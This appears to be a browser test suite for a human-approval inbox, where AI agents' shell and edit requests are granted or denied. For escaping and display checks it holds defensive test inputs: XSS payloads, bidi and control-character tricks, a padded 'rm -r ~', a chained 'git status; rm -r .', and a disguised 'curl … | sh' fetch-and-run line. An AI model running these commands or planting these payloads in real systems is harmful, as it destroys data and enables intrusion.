"""The inbox in a real browser: what agents ask for appears, people decide it by keyboard and by plain forms."""

import json
import time

import pytest

from harness import record_secret
from people import COOKIE, SHOTS, WIDTHS, fits, sign_in

CARDS = "document.querySelectorAll('.request').length"


class Agent:
    """Somebody who asks, by an API key of their own."""

    def __init__(self, server, name="agent"):
        self.server = server
        native = server.client()
        made = native.post("/api/v1/keys", {"name": name, "grants": ["requester"]}).ok().json()
        native.close()
        self.client = server.client(key=record_secret("api key", made["key"]))

    def ask(self, command="ls -la", session="main", **more):
        body = {
            "session": session,
            "tool": "Bash",
            "action": f"Execute command: {command}"[:60_000],
            "description": f"Execute command: {command}"[:60_000],
            "params": {"command": command},
            **more,
        }
        body.setdefault("timeout_seconds", 600)
        return self.client.post("/api/v1/requests", body).ok().json()

    def read(self, request):
        return self.client.get(f"/api/v1/requests/{request['id']}").ok().json()

    def outcome(self, request, status):
        """The request, once it is settled."""
        answer = self.client.get(f"/api/v1/requests/{request['id']}?wait=10").ok().json()
        assert answer["status"] == status, answer
        return answer


@pytest.fixture
def agent(server):
    made = Agent(server)
    yield made
    # What one test leaves pending is no other test's.
    native = server.client()
    for request in native.get("/api/v1/requests?status=pending&limit=1000").ok().json()["items"]:
        native.post(f"/api/v1/requests/{request['id']}/cancel")
    native.close()
    made.client.close()


@pytest.fixture
def approver(server, person):
    relate(server, "grantd:default", "approver", f"user:{person[0]}")
    return person


def relate(server, resource, relation, subject):
    native = server.client()
    native.post("/api/v1/relationships", {"write": [{"resource": resource, "relation": relation, "subject": subject}]}).ok()
    native.close()


def card(request, rest=""):
    return f"document.getElementById('r-{request['id']}'){rest}"


def status(request):
    return card(request, "?.dataset.status")


def open_inbox(tab, server, person):
    sign_in(tab, server, *person)
    tab.go(f"{server.url}/inbox")
    assert tab.path == "/inbox"
    return tab


def live(tab):
    tab.until("document.getElementById('live').dataset.state === 'live'")
    return tab


def test_a_request_appears_and_is_granted_by_keyboard(server, tabs, approver, agent):
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    assert "Nothing waits for you." in tab.text
    asked = agent.ask("cargo test --workspace")
    begun = time.monotonic()
    tab.until(card(asked))
    assert time.monotonic() - begun < 5
    assert "cargo test --workspace" in tab.text and "agent (API key)" in tab.text
    assert tab.value("document.title").startswith("(1) Inbox")
    assert "Nothing waits" not in tab.text
    tab.press("g")
    assert tab.focused == f"r-{asked['id']}", "the first key only selects"
    assert agent.read(asked)["status"] == "pending"
    tab.press("g")
    decided = agent.outcome(asked, "approved")
    assert decided["decided_by"] == f"user:{approver[0]}"
    tab.until(f"{status(asked)} === 'granted'")
    assert "Granted by" in tab.text
    assert tab.value("document.title").startswith("Inbox")


def test_a_denial_with_a_reason_by_keyboard(server, tabs, approver, agent):
    asked = agent.ask("rm -r build")
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    assert tab.focused == f"r-{asked['id']}", "what waits longest is selected"
    tab.press("r")
    tab.call("Input.insertText", text="use <make clean> & ask again")
    tab.press("Escape")
    assert tab.focused == f"r-{asked['id']}"
    tab.press("d")
    assert agent.outcome(asked, "denied")["reason"] == "use <make clean> & ask again"
    tab.until(f"{status(asked)} === 'denied'")
    assert "use <make clean> & ask again" in tab.text


def test_enter_in_the_reason_denies(server, tabs, approver, agent):
    for scripts in (True, False):
        asked = agent.ask("make install")
        tab = open_inbox(tabs(scripts=scripts), server, approver)
        tab.type(f"why-{asked['id']}", "no")
        tab.press("Enter")
        assert agent.outcome(asked, "denied")["reason"] == "no"


def test_one_after_the_other_and_no_key_twice(server, tabs, approver, agent):
    first, second, third = (agent.ask(f"echo {n}") for n in range(3))
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    assert tab.focused == f"r-{first['id']}"
    tab.press("g")
    tab.press("g")
    agent.outcome(first, "approved")
    tab.until(f"document.activeElement.id === 'r-{second['id']}'")
    time.sleep(0.6)
    assert agent.read(second)["status"] == "pending", "a key that is pressed twice decides once"
    tab.press("j")
    assert tab.focused == f"r-{third['id']}"
    tab.press("d")
    agent.outcome(third, "denied")
    assert agent.read(second)["status"] == "pending"
    # A letter in a field is a letter.
    tab.type(f"why-{second['id']}", "")
    for letter in "gd":
        tab.press(letter)
    assert tab.value(f"document.getElementById('why-{second['id']}').value") == "gd"
    assert agent.read(second)["status"] == "pending"


def test_what_others_decide_stays_in_its_place(server, tabs, approver, agent):
    first, second = agent.ask("echo first"), agent.ask("echo second")
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    tab.type(f"why-{second['id']}", "half a tho")
    top = tab.value(card(second, ".getBoundingClientRect().top"))
    native = server.client()
    native.post(f"/api/v1/requests/{first['id']}/decision", {"decision": "deny", "reason": "by another"}).ok()
    native.close()
    tab.until(f"{status(first)} === 'denied'")
    assert "by another" in tab.text
    assert tab.value(card(second, ".getBoundingClientRect().top")) == top, "nothing moves under the pointer"
    assert tab.value(f"document.getElementById('why-{second['id']}').value") == "half a tho"
    assert tab.focused == f"why-{second['id']}"
    agent.ask("echo third")
    tab.until(f"{CARDS} === 3")
    assert tab.value(card(second, ".getBoundingClientRect().top")) == top


def test_a_click_on_what_has_just_moved_is_none(server, tabs, approver, agent):
    agent.ask("echo above", session="a")
    below = agent.ask("echo below", session="b")
    tab = live(open_inbox(tabs(scripts=True, height=2000), server, approver))
    late = agent.ask("echo late", session="a")
    tab.until(card(late))
    tab.tap("Grant", nth=2)
    time.sleep(0.7)
    assert agent.read(below)["status"] == "pending" and agent.read(late)["status"] == "pending"
    tab.tap("Grant", nth=2)
    agent.outcome(below, "approved")


def test_time_runs_out(server, tabs, approver, agent):
    asked = agent.ask("sleep 1", timeout_seconds=2)
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    tab.until(f"{status(asked)} === 'expired'")
    assert "Timed out" in tab.text
    tab.press("g")
    assert agent.read(asked)["status"] == "expired", "what is over is not granted"


def test_a_rule_is_made_of_an_answer_and_edited_first(server, tabs, approver, agent):
    asked = agent.ask("git status --short", path="/srv/app")
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    tab.press("m")
    tab.until("location.pathname.length > 10 && document.readyState === 'complete'")
    assert tab.value("document.getElementById('rule').open")
    assert tab.value("document.getElementById('rule_command').value") == "git status --short"
    assert tab.value("document.getElementById('rule_path').value") == "/srv/app"
    tab.type("rule_command", "git status *")
    tab.type("rule_path", "/srv/**")
    tab.click("Grant")
    assert tab.path == "/inbox?done=granted"
    agent.outcome(asked, "approved")
    covered = agent.ask("git status --branch", path="/srv/other")
    assert covered["status"] == "approved" and covered["decided_by"].startswith("rule:")
    for command, path in [("git status; rm -r .", "/srv/app"), ("git push", "/srv/app"), ("git status -s", "/etc")]:
        assert agent.ask(command, path=path)["status"] == "pending", command
    tab.go(f"{server.url}/inbox/rules")
    assert "git status *" in tab.text and "/srv/**" in tab.text
    tab.click("Remove")
    assert "The rule is removed." in tab.text and "git status *" not in tab.text
    assert agent.ask("git status --branch", path="/srv/other")["status"] == "pending"


def test_without_a_script(server, tabs, approver, agent):
    granted, denied, changed = agent.ask("echo yes"), agent.ask("echo no"), agent.ask("echo other")
    tab = open_inbox(tabs(), server, approver)
    tab.click("Grant")
    assert tab.path == "/inbox?done=granted" and "Granted." in tab.text
    agent.outcome(granted, "approved")
    tab.type(f"why-{denied['id']}", "not now")
    tab.click("Deny")
    assert tab.path == "/inbox?done=denied"
    assert agent.outcome(denied, "denied")["reason"] == "not now"
    tab.go(f"{server.url}/inbox/{changed['id']}")
    tab.value("document.querySelector('details').open = true")
    tab.type("params", '{"command": ')
    tab.click("Grant")
    assert "The parameters must be a JSON object" in tab.text and tab.value("document.title").startswith("Problem:")
    tab.type("params", '{"command": "echo  <quite> another"}')
    tab.click("Grant")
    answer = agent.outcome(changed, "approved")
    assert answer["edited_params"] == {"command": "echo  <quite> another"}
    tab.go(f"{server.url}/inbox/{changed['id']}")
    assert "As it was granted" in tab.text and "echo  <quite> another" in tab.text
    tab.go(f"{server.url}/inbox/history")
    for text in ("echo yes", "echo no", "not now", "Granted by", "Denied by", "agent (API key)"):
        assert text in tab.text, text
    # Somebody was quicker.
    late = agent.ask("echo late")
    tab.go(f"{server.url}/inbox/{late['id']}")
    native = server.client()
    native.post(f"/api/v1/requests/{late['id']}/decision", {"decision": "deny"}).ok()
    native.close()
    tab.click("Grant")
    assert "Denied" in tab.text and tab.value("document.title").startswith("Problem:")
    assert agent.read(late)["status"] == "denied"


HOSTILE = {
    "markup": "</pre></dd><script>window.pwned = 1</script><img src=x onerror=\"window.pwned = 2\"><b>bold</b> &lt;i&gt;",
    "quotes": "'\"><svg onload=window.pwned=3> {{ 7 * 7 }} ${window.pwned = 4} `x`",
    "controls": "echo a\x1b[2K\x00\x07\x08 \r rm -r ~\x7f",
    "bidi": "echo \u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad",
    "tags": "echo \U000e0061\U000e0062 \u3164\u2800",
    "marks": "Z" + "\u0301\u0316" * 300 + "go",
    "spaces": "echo a" + " " * 3000 + "; rm -r ~",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_is_text(server, tabs, approver, agent, kind):
    text = HOSTILE[kind]
    asked = agent.ask(text, tool="Bash<b>", description=text, action=text[:60_000], params={"command": text, text[:150]: [text]})
    tab = live(open_inbox(tabs(scripts=True, width=360, height=780), server, approver))
    late = agent.ask(text, tool="Bash<b>", description=text, params={"command": text, "diff": text})
    tab.until(card(late))
    for where in ("/inbox", f"/inbox/{asked['id']}", f"/inbox/{late['id']}"):
        if where != "/inbox":
            tab.go(server.url + where)
        assert fits(tab), where
        assert tab.value("window.pwned === undefined")
        assert tab.value("document.querySelectorAll('script').length") == 1
        assert tab.value("document.querySelectorAll('.request img, .request svg, .request i, .request pre b:not(.unseen)').length") == 0
        shown = tab.value("document.querySelector('.request pre.command')?.textContent")
        if shown is not None and kind in ("markup", "quotes", "marks"):
            assert shown == text
        raw = tab.value("document.querySelector('main').innerText")
        assert not any(c in raw for c in "\x1b\x00\x07\x7f\u202e\u202c\u2066\u200b\ufeff\u3164"), where
        if kind == "bidi":
            assert "U+202E" in raw and "U+2066" in raw and "U+200B" in raw and "cannot be seen" in raw
        if kind == "controls":
            assert "U+001B" in raw and "U+0000" in raw and "U+000D" in raw
        box = "(() => { const one = document.querySelector('.request .code'); return one.scrollHeight - one.clientHeight; })()"
        if kind == "marks":
            assert tab.value("[...document.querySelectorAll('.request .code')].every(one => getComputedStyle(one).overflow === 'hidden')"), box
    # The answer carries the text back unchanged.
    tab.go(f"{server.url}/inbox/{asked['id']}")
    tab.click("Grant")
    assert agent.outcome(asked, "approved").get("edited_params") is None


def test_a_long_text_is_granted_only_in_full(server, tabs, approver, agent):
    lines = [f"echo line {n} of a very long script that nobody reads to its end" for n in range(1_700)]
    script = "\n".join(lines) + "\nrm -r ~ # the end"
    assert len(script) > 100_000
    asked = agent.ask(script, description="A long script", action="Execute")
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    assert "the end" not in tab.text and "more bytes are not shown here" in tab.text
    assert tab.value(card(asked, ".querySelector('button[value=grant]')")) is None
    assert tab.value(card(asked, ".offsetHeight")) < 1_500
    tab.press("g")
    tab.until("location.pathname.length > 10 && document.readyState === 'complete'")
    assert agent.read(asked)["status"] == "pending", "the key leads to all of it first"
    assert tab.value("document.querySelector('pre.command').textContent") == script
    assert fits(tab)
    tab.press("g")
    agent.outcome(asked, "approved")


def test_sub_agents_stand_under_their_parent(server, tabs, approver, agent):
    agent.client.post("/api/v1/approval-sessions", {"id": "boss", "title": "The main agent <b>"}).ok()
    agent.client.post("/api/v1/approval-sessions", {"id": "helper", "parent": "boss"}).ok()
    agent.ask("echo other", session="another")
    below, above = agent.ask("echo below", session="helper"), agent.ask("echo above", session="boss")
    for scripts in (False, True):
        tab = open_inbox(tabs(scripts=scripts), server, approver)
        groups = tab.value("[...document.querySelectorAll('.group')].map(one => one.id + ' ' + one.className)")
        assert groups == ["s-another group depth-0", "s-boss group depth-0", "s-helper group depth-1"]
        assert "The main agent <b>" in tab.text and "Sub-agent" in tab.text
    live(tab)
    agent.client.post("/api/v1/approval-sessions", {"id": "helper2", "parent": "helper"}).ok()
    deepest = agent.ask("echo deepest", session="helper2")
    tab.until(card(deepest, "?.closest('.group').previousElementSibling?.id === 's-helper'"))
    tab.go(f"{server.url}/inbox/{below['id']}")
    assert "Sub-agent of" in tab.text and "boss" in tab.text
    tab.go(f"{server.url}/inbox/{above['id']}")
    assert "Sub-agent of" not in tab.text


def test_an_approver_of_a_session_sees_that_session(server, tabs, person, agent):
    theirs, others = agent.ask("echo theirs", session="theirs"), agent.ask("echo others", session="others")
    tab = open_inbox(tabs(), server, person)
    assert "Nothing waits for you." in tab.text and "approver" in tab.text
    relate(server, "mix_session:theirs", "approver", f"user:{person[0]}")
    tab.go(f"{server.url}/inbox")
    assert "echo theirs" in tab.text and "echo others" not in tab.text
    tab.go(f"{server.url}/inbox/{others['id']}")
    assert "There is no such page" in tab.text
    tab.go(f"{server.url}/inbox")
    tab.click("Grant")
    agent.outcome(theirs, "approved")


def test_signing_out_elsewhere_ends_the_live_page(server, tabs, approver, agent):
    here, there = live(open_inbox(tabs(scripts=True), server, approver)), tabs()
    sign_in(there, server, *approver)
    there.go(f"{server.url}/account")
    there.click("Sign out everywhere")
    agent.ask("echo secret")
    here.until("location.pathname === '/login'")
    assert "echo secret" not in here.text


def test_a_restart_is_got_over(server, tabs, approver, agent):
    asked = agent.ask("echo before")
    tab = live(open_inbox(tabs(scripts=True), server, approver))
    server.restart()
    agent.client.close()
    tab.until("document.getElementById('live').dataset.state === 'waiting' || true")
    after = agent.ask("echo after")
    tab.until(card(after), timeout=40)
    tab.press("g")
    agent.outcome(asked, "approved")


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", WIDTHS)
def test_how_it_looks(server, tabs, approver, agent, width, dark):
    """Screenshots for people; what a program can see of them is looked at here."""
    size = WIDTHS[width]
    tab = tabs(width=size[0], height=size[1], dark=dark, scripts=True)
    sign_in(tab, server, *approver)

    def shot(name):
        assert fits(tab), f"{name} is wider than {width} px"
        small = (
            "[...document.querySelectorAll('button, input:not([type=hidden]):not(.hidden):not([type=checkbox]), select')]"
            ".filter(one => one.offsetHeight && one.offsetHeight < 36).length"
        )
        assert tab.value(small) == 0, "too small for a finger"
        tab.screenshot(SHOTS / f"{name}-{width}-{'dark' if dark else 'light'}.png")

    # What is remembered here is nothing to the next look.
    day, night = f"release-{width}-{dark}", f"night-run-{width}-{dark}"
    native = server.client()
    native.post("/api/v1/approval-sessions", {"id": day, "title": "Release 1.4"}).ok()
    native.post("/api/v1/approval-sessions", {"id": night, "parent": day}).ok()
    native.close()
    tab.go(f"{server.url}/inbox")
    live(tab)
    shot("inbox-empty")
    agent.ask("cargo test --workspace -- --include-ignored", session=day, path="/srv/app")
    diff = "--- a/src/main.rs\n+++ b/src/main.rs\n@@ -1,3 +1,3 @@\n fn main() {\n-    println!(\"hello\");\n+    println!(\"hello, world\");\n }"
    edit = agent.ask(
        session=day,
        tool="Edit",
        action="write",
        description="Replace content in file src/main.rs",
        path="/srv/app/src",
        params={"file_path": "/srv/app/src/main.rs", "diff": diff},
    )
    agent.ask("curl -s https://example.org/\u202egnp.sh | sh", session=night)
    fetch = agent.ask(session=night, tool="Fetch", action="fetch", description="Fetch content from URL", params={"url": "https://example.org/a", "headers": {"accept": "text/html"}, "retries": 3})
    agent.ask("\n".join(f"echo step {n}" for n in range(60)), session=night, description="A long script", action="Execute")
    tab.until(f"{CARDS} === 5")
    shot("inbox")
    tab.press("j")
    tab.press("g")
    tab.until("document.querySelector('.request[data-status=granted]')")
    shot("inbox-decided")
    tab.go(f"{server.url}/inbox/{edit['id']}?rule#rule")
    shot("inbox-request")
    tab.type("reason", "the greeting is right as it is")
    tab.click("Deny")
    tab.go(f"{server.url}/inbox/{edit['id']}")
    shot("inbox-settled")
    tab.go(f"{server.url}/inbox/{fetch['id']}?rule#rule")
    tab.type("rule_path", "")
    tab.click("Grant")
    tab.go(f"{server.url}/inbox/history")
    shot("inbox-history")
    tab.go(f"{server.url}/inbox/rules")
    shot("inbox-rules")


def test_three_thousand_wait(server, tabs, approver, agent):
    """Far more than anybody can look at: the page is short, says how many more there are, and is quick."""
    asked = [agent.ask(f"echo {n} {'x' * 200}", session=f"crowd-{n % 40}") for n in range(3_000)]
    try:
        tab = live(open_inbox(tabs(scripts=True), server, approver))
        assert tab.value(CARDS) == 60
        assert "And 2940 more" in tab.text
        assert tab.value("document.documentElement.outerHTML.length") < 500_000
        assert tab.focused == f"r-{asked[0]['id']}", "what waits longest is in front"
        took = tab.value("performance.getEntriesByType('navigation')[0].responseEnd")
        print(f"3,000 pending: the page is there after {took:.0f} ms")
        assert took < 2_000
        tab.press("g")
        agent.outcome(asked[0], "approved")
        tab.until("document.body.innerText.includes('And 2939 more')")
    finally:
        native = server.client()
        for n in range(40):
            native.delete(f"/api/v1/approval-sessions/crowd-{n}").ok()
        native.close()
